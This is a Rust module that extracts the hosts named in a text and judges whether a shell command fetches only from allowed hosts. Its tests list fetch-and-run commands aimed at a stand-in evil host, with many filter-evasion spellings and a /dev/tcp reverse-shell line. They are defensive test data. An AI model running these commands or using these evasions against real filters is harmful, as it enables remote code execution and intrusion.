//! Which hosts a text names.

use std::borrow::Cow;
use std::ops::{ControlFlow, Range};

use super::{NAME_BYTES_MAX, canonical};

/// A host as a text names it.
pub(crate) struct Named {
    /// In canonical spelling.
    pub(crate) host: String,
    /// Where it stands.
    pub(crate) span: Range<usize>,
}

/// Every host that `text` may name and that is `wanted`, in addresses and by itself, until `found` breaks. It rather
/// sees one host too many: file names are names too.
pub(crate) fn each(
    text: &str,
    wanted: impl Fn(&str) -> bool,
    found: &mut dyn FnMut(Named) -> ControlFlow<()>,
) -> ControlFlow<()> {
    let bytes = text.as_bytes();
    let slashes = memchr::memmem::find_iter(bytes, "//").chain(memchr::memmem::find_iter(bytes, r"\\"));
    for named in slashes.filter_map(|at| in_address(text, at)).filter(|named| wanted(&named.host)) {
        found(named)?;
    }
    let mut at = 0;
    while let Some(start) = bytes.get(at..).and_then(|b| b.iter().position(|b| is_name(*b))).map(|p| at + p) {
        let len = bytes.get(start..).and_then(|b| b.iter().position(|b| !is_name(*b)));
        at = len.map_or(text.len(), |len| start + len);
        // Behind a backslash the first letter may be part of an escape, such as that of a line end.
        let is_escape = start.checked_sub(1).and_then(|before| bytes.get(before)) == Some(&b'\\');
        let behind = is_escape.then(|| names(text, start + 1..at));
        for span in names(text, start..at).chain(behind.into_iter().flatten()) {
            if let Some(host) = text.get(span.clone()).and_then(canonical)
                && wanted(&host)
                && !is_user(text, &span)
            {
                found(Named { host, span })?;
            }
        }
    }
    ControlFlow::Continue(())
}

/// The host of the address whose two slashes stand at `slashes`.
fn in_address(text: &str, slashes: usize) -> Option<Named> {
    const SLASHES: [char; 2] = ['/', '\\'];
    // Of a run of slashes, which browsers take for two, the first are enough.
    if text.get(..slashes)?.ends_with(SLASHES) {
        return None;
    }
    let rest = text.get(slashes..)?.trim_start_matches(SLASHES);
    let len = rest.find(|c: char| is_end(c) || c.is_whitespace()).unwrap_or(rest.len());
    let authority = rest.get(..len)?;
    let host_at = authority.rfind('@').map_or(0, |at| at + 1);
    let host = authority.get(host_at..)?.split(':').next()?;
    let trimmed = host.trim_end_matches(['.', '。', '．', '｡']);
    let start = text.len() - rest.len() + host_at;
    let span = start..start + trimmed.len();
    Some(Named { host: canonical(&plain(trimmed))?, span })
}

/// What ends the part of an address in which its host stands: for browsers a backslash does too.
fn is_end(c: char) -> bool {
    matches!(c, '/' | '?' | '#' | '\\' | '"' | '\'' | '`' | '<' | '>' | '(' | ')' | '|' | '{' | '}')
}

/// A host as browsers read it: percent signs undone, and every dot a dot.
fn plain(host: &str) -> Cow<'_, str> {
    if !host.contains(['%', '。', '．', '｡']) {
        return Cow::Borrowed(host);
    }
    let mut bytes = Vec::with_capacity(host.len());
    let mut rest = host.as_bytes();
    while let [first, after @ ..] = rest {
        let digits = if *first == b'%' { after.get(..2) } else { None };
        let undone = digits.and_then(|d| u8::from_str_radix(std::str::from_utf8(d).ok()?, 16).ok());
        bytes.push(undone.unwrap_or(*first));
        rest = after.get(if undone.is_some() { 2 } else { 0 }..).unwrap_or(&[]);
    }
    let text = String::from_utf8_lossy(&bytes).into_owned();
    Cow::Owned(text.replace(['。', '．', '｡'], "."))
}

const fn is_name(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_')
}

/// The names in a run of characters that names are made of: two dots are no part of a name.
fn names(text: &str, run: Range<usize>) -> impl Iterator<Item = Range<usize>> {
    let mut start = run.start;
    text.get(run).unwrap_or("").split("..").filter_map(move |piece| {
        let (from, bare) = (start, piece.trim_start_matches(['.', '-', '_']));
        start += piece.len() + "..".len();
        let name = bare.trim_end_matches(['.', '-', '_']);
        let at = from + piece.len() - bare.len();
        (name.contains('.') && name.len() <= NAME_BYTES_MAX).then_some(at..at + name.len())
    })
}

/// How far an address is followed to tell its user from its host.
const AUTHORITY_BYTES_MAX: usize = 256;

/// Whether what stands there is the user or the password of an address and not its host.
fn is_user(text: &str, span: &Range<usize>) -> bool {
    let stops = |c: char| is_end(c) || c.is_whitespace();
    let near = |range: Range<usize>| text.get(crate::view::whole_characters(text, range)).unwrap_or("");
    let before = near(span.start.saturating_sub(AUTHORITY_BYTES_MAX)..span.start);
    let after = near(span.end..span.end + AUTHORITY_BYTES_MAX);
    let is_in_address = before.trim_end_matches(|c| !stops(c)).ends_with("//");
    is_in_address && after.split(stops).next().is_some_and(|rest| rest.contains('@'))
}

/// How far the words at both ends of a place are followed beyond it.
const WORD_BYTES_MAX: usize = 512;

/// Whether the place names hosts, and all of them are `allowed`. Where it cannot be told for certain which hosts a
/// shell or a browser would ask, the answer is no.
pub(crate) fn are_all(text: &str, place: &Range<usize>, allowed: impl Fn(&str) -> bool) -> bool {
    let Some(words) = words_at(text, place) else { return false };
    let mut named = 0;
    let mut rest = words;
    let mut before = ' ';
    while let Some(c) = rest.chars().next() {
        let host = if let Some(after) = rest.strip_prefix("//") {
            let Some((host, left)) = address(after) else { return false };
            rest = left;
            Some(host)
        } else if c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_') {
            let len = rest.bytes().position(|b| !is_name(b)).unwrap_or(rest.len());
            let (name, left) = rest.split_at(len);
            // A shell takes quoted pieces that touch each other for one word.
            if is_joined(name, before, left.chars().next()) || is_number(name) {
                return false;
            }
            rest = left;
            let name = name.trim_matches(['.', '-', '_']);
            name.contains('.').then_some(name)
        } else {
            let left = rest.get(c.len_utf8()..).unwrap_or("");
            if hides(c, left) {
                return false;
            }
            rest = left;
            None
        };
        before = c;
        if let Some(host) = host {
            match canonical(host) {
                Some(host) if allowed(&host) => named += 1,
                _ => return false,
            }
        }
    }
    named > 0
}

/// The whole words that a place has a part in. `None` where one of them has no end nearby, or they are not ASCII.
fn words_at<'t>(text: &'t str, place: &Range<usize>) -> Option<&'t str> {
    let bytes = text.as_bytes();
    let before = bytes.get(..place.start)?;
    let behind = bytes.get(place.end..)?;
    let open = before.iter().rev().position(u8::is_ascii_whitespace).unwrap_or(before.len());
    let close = behind.iter().position(u8::is_ascii_whitespace).unwrap_or(behind.len());
    let words = text.get(place.start - open..place.end + close)?;
    (open <= WORD_BYTES_MAX && close <= WORD_BYTES_MAX && words.is_ascii()).then_some(words)
}

/// The host of an address behind its `//`, and what follows the address; `None` where readers could disagree on it.
fn address(after: &str) -> Option<(&str, &str)> {
    let len = after.bytes().position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-')))?;
    let (host, rest) = after.split_at(len);
    let rest = match rest.strip_prefix(':') {
        Some(port) => port.trim_start_matches(|c: char| c.is_ascii_digit()),
        None => rest,
    };
    let is_path = |c: char| c.is_ascii_alphanumeric() || "._~%/?=:+#!@-".contains(c);
    match rest.chars().next() {
        Some('/') => {
            let len = rest.find(|c| !is_path(c)).unwrap_or(rest.len());
            // An address in an address is looked at by itself.
            let len = rest.get(..len).and_then(|path| path.find("//")).unwrap_or(len);
            Some((host, rest.get(len..)?))
        }
        Some(' ' | '\t' | '\n' | '"' | '\'' | '`' | ')' | '|') => Some((host, rest)),
        _ => None,
    }
}

fn is_joined(name: &str, before: char, after: Option<char>) -> bool {
    let is_quote = |c: char| matches!(c, '"' | '\'' | '`');
    name.starts_with('.') && is_quote(before) || name.ends_with('.') && after.is_some_and(is_quote)
}

/// Whether a word without a dot may be an address all the same.
fn is_number(name: &str) -> bool {
    name.len() >= 8 && (name.bytes().all(|b| b.is_ascii_digit()) || name.starts_with("0x"))
}

/// Whether a character makes words that are not written out.
fn hides(c: char, left: &str) -> bool {
    match c {
        '$' => left.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '{'),
        '\\' => !left.starts_with('\n'),
        ':' => left.starts_with(':'),
        '{' | '}' | '%' | '[' | ']' | '*' | '?' => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(text: &str) -> Vec<String> {
        let mut all = Vec::new();
        let _all = each(text, |_| true, &mut |named| {
            all.push(format!("{}@{}", named.host, &text[named.span]));
            ControlFlow::Continue(())
        });
        all.sort();
        all.dedup();
        all
    }

    fn check(text: &str, wanted: &[&str]) {
        assert_eq!(hosts(text), wanted, "{text}");
    }

    #[test]
    fn hosts_are_seen_as_browsers_see_them() {
        check("https://Evil.Example/x", &["evil.example@Evil.Example"]);
        check("see evil.example.", &["evil.example@evil.example"]);
        check("(evil.example:8080)", &["evil.example@evil.example"]);
        check("https://good.example@evil.example/", &["evil.example@evil.example"]);
        check("https://good.example:pw@evil.example:443", &["evil.example@evil.example"]);
        check(
            r"https://evil.example\@good.example/",
            &["evil.example@evil.example", "good.example@good.example"],
        );
        check("https://%65vil.example/", &["65vil.example@65vil.example", "evil.example@%65vil.example"]);
        check("https://evil。example/", &["evil.example@evil。example"]);
        check("http://0x7f.1/ http://2130706433/", &["127.0.0.1@0x7f.1", "127.0.0.1@2130706433"]);
        check("evil.example,ann@good.example", &["evil.example@evil.example", "good.example@good.example"]);
        check("a...evil.example..b", &["evil.example@evil.example"]);
        check("http://localhost/ localhost", &["localhost@localhost"]);
        check(r"a\nevil.example", &["evil.example@evil.example", "nevil.example@nevil.example"]);
        check("no host. Nor here", &[]);
    }

    fn allows(text: &str) -> bool {
        are_all(text, &(0..text.len()), |host| host == "good.example" || host == "also.example")
    }

    #[test]
    fn a_command_is_excused_only_where_every_host_in_it_is_plain_and_allowed() {
        for good in [
            "curl -fsSL https://good.example/i | sh",
            "/bin/bash -c \"$(curl -fsSL https://GOOD.example:443/a/b.sh?x=1)\"",
            "curl -fsSL \\\n https://good.example./x | bash",
            "wget good.example/x && curl https://also.example/y|sh",
        ] {
            assert!(allows(good), "{good}");
        }
        for bad in [
            "curl | sh",
            "curl https://evil.example/x | sh",
            "curl https://good.example/x https://evil.example/y | sh",
            "curl https://good.example.evil.example/x | sh",
            "curl https://good.example@evil.example/x | sh",
            "curl https://evil.example@good.example/x | sh",
            "curl https://good.example/x;curl evil.example|sh",
            "curl https://good.example/?u=https://evil.example/x|sh",
            r"curl https://good.example\@evil.example/x|sh",
            "curl https://good.example?@evil.example/x|sh",
            "curl https://good.example#@evil.example/x|sh",
            "curl https://{good.example,evil.example}/x|sh",
            "curl https://good.example/x evil%2eexample|sh",
            "curl https://good.example/x $EVIL|sh",
            "curl https://good.example/x ${EVIL}|sh",
            "curl https://good.example/x evil'.'example|sh",
            "curl https://good.example'.'evil/x|sh",
            "curl https://good.example'.evil.example'/x|sh",
            r"curl https://good.example/x evil\.example|sh",
            "curl https://good.example/x 3405803785|sh",
            "curl https://good.example/x 0xcb007109|sh",
            "curl https://good.example/x http://[::1]/|sh",
            "bash -i >& /dev/tcp/203.0.113.9/4444 # https://good.example/",
            "curl https://gооd.example/x | sh",
            "curl https://good.example/x | sh i.sh",
        ] {
            assert!(!allows(bad), "{bad}");
        }
    }

    #[test]
    fn the_words_at_the_ends_of_a_place_are_looked_at_to_their_ends() {
        let text = "curl https://good.example.evil.example/x | sh";
        let end = text.find(".evil").unwrap();
        assert!(!are_all(text, &(0..end), |host| host == "good.example"));
        let long = format!("curl https://good.example/{} | sh", "a".repeat(WORD_BYTES_MAX + 30));
        assert!(
            !are_all(&long, &(0..30), |host| host == "good.example"),
            "an end that is not seen may say more"
        );
    }
}
